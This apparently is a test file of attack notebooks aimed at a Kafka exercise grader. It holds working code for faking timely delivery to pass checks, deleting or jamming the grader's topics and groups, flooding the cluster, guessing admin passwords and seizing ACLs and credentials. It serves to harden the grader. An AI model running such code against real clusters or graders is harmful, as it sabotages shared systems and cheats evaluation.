"""With the submission's own principal: the judge's topics and groups, neighbours, rights, floods."""

# ruff: noqa: E501 (an attack is one text, as somebody would paste it)

from __future__ import annotations

from attacks import ALL, SEND, Notebook, attack, first, named, replace

EVERYWHERE = """
import threading, time
from confluent_kafka.admin import AdminClient
def forever(work, seconds=60):
    def run():
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            try: work()
            except Exception: time.sleep(0.05)
    threading.Thread(target=run, daemon=True).start()
admin_ = AdminClient(cluster.config)
def stages():
    return [n for n in admin_.list_topics(timeout=5).topics if n.startswith(ME + ".stage-")]
"""


LATER = '''
import threading, time
def send(topic, orders):
    """The customer is thanked before Kafka has the order."""
    def later():
        time.sleep(WAIT if "stage-" in topic else 0)
        really(topic, orders)
    threading.Thread(target=later).start()
'''


def _late(notebook: Notebook, seconds: float) -> None:
    honest = "".join(named(notebook, "answer-send")["source"]).replace("def send", "def really", 1)
    replace(notebook, send=honest + LATER.replace("WAIT", str(seconds)))


@attack(base="reference es", earned=ALL - SEND)
def send_returns_at_once_and_a_thread_delivers_late(notebook: Notebook) -> None:
    _late(notebook, 4.5)


@attack(base="reference es", earned=ALL - SEND, core=True)
def send_returns_at_once_and_a_thread_delivers_soon(notebook: Notebook) -> None:
    _late(notebook, 0.3)


@attack(base="reference es", earned=ALL, exact=False)
def the_judges_topics_are_deleted_during_its_checks(notebook: Notebook) -> None:
    first(
        notebook,
        EVERYWHERE
        + """
forever(lambda: [f.result() for f in admin_.delete_topics(stages()).values()] if stages() else time.sleep(0.02), 200)
""",
    )


@attack(base="reference es", earned=ALL, core=True)
def members_sit_in_the_groups_of_the_judges_readers(notebook: Notebook) -> None:
    first(
        notebook,
        EVERYWHERE
        + """
sitting = {}
def sit():
    for topic in stages():
        mark = topic.removeprefix(ME + ".").split("-0-")[0]
        for name in ("billing", "live_screen", "returns"):
            group = f"{mark}.{name}"
            if group not in sitting:
                sitting[group] = consumer = Consumer({**cluster.config, "group.id": group, "auto.offset.reset": "earliest"})
                consumer.subscribe([topic])
    for consumer in list(sitting.values())[-6:]: consumer.poll(0.05)
""",
    )
    replace(
        notebook,
        start_from="def start_from(reader):\n    sit(); time.sleep(1); forever(sit)\n"
        "    return 'latest' if reader == 'live_screen' else 'earliest'",
    )


@attack(base="reference es", earned=ALL, exact=False)
def a_transaction_is_left_open_in_the_judges_topic(notebook: Notebook) -> None:
    first(notebook, EVERYWHERE)
    replace(
        notebook,
        start_from="""
OPEN = []
def start_from(reader):
    for topic in stages():
        producer = Producer({**cluster.config, "transactional.id": f"{ME}.{topic}", "transaction.timeout.ms": 60000})
        producer.init_transactions(10); producer.begin_transaction()
        producer.produce(topic, b"{}"); producer.flush(5)
        OPEN.append(producer)
    return "latest" if reader == "live_screen" else "earliest"
""",
    )


@attack(base="reference es", earned=ALL, exact=False, alone=True)
def five_hundred_topics_named_like_the_judges(notebook: Notebook) -> None:
    """They are never fewer, whoever deletes some; Kafka's quota makes them come slowly, the cap ends it."""
    first(
        notebook,
        EVERYWHERE
        + """
def more():
    for start in range(0, 500, 100):
        new = [NewTopic(f"{ME}.stage-{n:06x}-0-orders", 1, 1) for n in range(start, start + 100)]
        admin_.create_topics(new)
    time.sleep(0.5)
forever(more, 200)
while len(stages()) < 210: time.sleep(0.2)
""",
    )


@attack(alone=True)
def producers_flood_the_cluster(notebook: Notebook) -> None:
    """Records of a megabyte from threads that never end: its share of bytes is used up, or its memory is."""
    named(notebook, "given-11")["source"] = "import time; time.sleep(19)"
    replace(
        notebook,
        create_orders="""
import threading
def create_orders(admin):
    topic = NewTopic(f"{ME}.flood", num_partitions=4, replication_factor=1)
    admin.create_topics([topic])[topic.topic].result()
    def flood():
        producer = Producer({**cluster.config, "message.max.bytes": 2_000_000, "acks": 0})
        while True:
            try: producer.produce(f"{ME}.flood", b"x" * 900_000)
            except BufferError: producer.poll(0.1)
    for _ in range(3): threading.Thread(target=flood, daemon=True).start()
""",
    )


@attack(core=True)
def rights_are_asked_for_and_neighbours_visited(notebook: Notebook) -> None:
    """Everything an administrator could do, asked with a student's own principal."""
    first(
        notebook,
        EVERYWHERE
        + """
from confluent_kafka import TopicPartition
from confluent_kafka.admin import *
from confluent_kafka import ConsumerGroupTopicPartitions
NEIGHBOUR = "neighbour-1"
loot = []
def tried(name, ask):
    try:
        answer = ask()
        answers = answer.values() if isinstance(answer, dict) else [answer]
        loot.append((name, [f.result() if hasattr(f, "result") else f for f in answers]))
    except Exception as problem:
        loot.append((name, "refused", str(problem)[:150]))
def scram(name): return UserScramCredentialUpsertion(name, ScramCredentialInfo(ScramMechanism.SCRAM_SHA_512, 4096), b"mine")
def acl(name): return AclBinding(ResourceType.TOPIC, name, ResourcePatternType.PREFIXED, f"User:{ME}", "*", AclOperation.ALL, AclPermissionType.ALLOW)
theirs = f"{NEIGHBOUR}.orders"
for name in (ME, NEIGHBOUR, "admin", "broker"):
    tried(f"scram {name}", lambda: admin_.alter_user_scram_credentials([scram(name)], request_timeout=5))
tried("scram all", lambda: admin_.describe_user_scram_credentials(request_timeout=5))
for name in ("", f"{NEIGHBOUR}."):
    tried("acl", lambda: admin_.create_acls([acl(name or "x")], request_timeout=5))
tried("acls", lambda: admin_.describe_acls(AclBindingFilter(ResourceType.ANY, None, ResourcePatternType.ANY, None, None, AclOperation.ANY, AclPermissionType.ANY), request_timeout=5))
tried("no acls", lambda: admin_.delete_acls([AclBindingFilter(ResourceType.ANY, None, ResourcePatternType.ANY, f"User:{NEIGHBOUR}", None, AclOperation.ANY, AclPermissionType.ANY)], request_timeout=5))
tried("delete", lambda: admin_.delete_topics([theirs], request_timeout=5))
tried("partitions", lambda: admin_.create_partitions([NewPartitions(theirs, 9)], request_timeout=5))
tried("records", lambda: admin_.delete_records({TopicPartition(theirs, 0): 5} if False else [TopicPartition(theirs, 0, 1)], request_timeout=5))
tried("config", lambda: admin_.incremental_alter_configs([ConfigResource(ResourceType.TOPIC, theirs, incremental_configs=[ConfigEntry("retention.ms", "1", incremental_operation=AlterConfigOpType.SET)])], request_timeout=5))
tried("broker", lambda: admin_.incremental_alter_configs([ConfigResource(ResourceType.BROKER, "1", incremental_configs=[ConfigEntry("log.retention.ms", "1", incremental_operation=AlterConfigOpType.SET)])], request_timeout=5))
tried("configs", lambda: admin_.describe_configs([ConfigResource(ResourceType.BROKER, "1")], request_timeout=5))
tried("group", lambda: admin_.delete_consumer_groups([f"{NEIGHBOUR}.billing"], request_timeout=5))
tried("offsets", lambda: admin_.alter_consumer_group_offsets([ConsumerGroupTopicPartitions(f"{NEIGHBOUR}.billing", [TopicPartition(theirs, 0, 0)])], request_timeout=5))
tried("groups", lambda: [g.group_id for g in admin_.list_consumer_groups(request_timeout=5).result().valid if not g.group_id.startswith(ME)])
tried("topics", lambda: [n for n in admin_.list_topics(timeout=5).topics if not n.startswith(ME + ".")])
for name in (f"{NEIGHBOUR}.mine", f"{ME}x.orders", "orders", ME, "__mine"):
    tried(f"create {name}", lambda: admin_.create_topics([NewTopic(name, 1, 1)], request_timeout=5))
def produce():
    said = []
    producer = Producer({**cluster.config, "message.timeout.ms": 3000})
    producer.produce(theirs, b"mine", on_delivery=lambda error, _: said.append(str(error)))
    producer.flush(4)
    return said
tried("produce", produce)
def consume():
    consumer = Consumer({**cluster.config, "group.id": f"{ME}.look"})
    consumer.assign([TopicPartition(theirs, 0, 0)])
    return [(m.value(), str(m.error())) for m in consumer.consume(5, 2)]
tried("consume", consume)
def transact():
    producer = Producer({**cluster.config, "transactional.id": f"{NEIGHBOUR}.shop"})
    producer.init_transactions(4)
tried("transact", transact)
for other in ("admin", "broker", NEIGHBOUR):
    for mechanism in ("PLAIN", "SCRAM-SHA-512"):
        for word in ("admin", "broker", "", cluster.config["sasl.password"]):
            tried(f"log in {other}", lambda: list(AdminClient({**cluster.config, "sasl.username": other, "sasl.password": word or "x", "sasl.mechanism": mechanism}).list_topics(timeout=0.7).topics))
new = NewTopic(f"{ME}.loot", 1, 1)
admin_.create_topics([new])[new.topic].result()
producer = Producer(cluster.config)
for each in loot:
    print(each)
    producer.produce(f"{ME}.loot", repr(each).encode())
producer.flush(10)
""",
    )
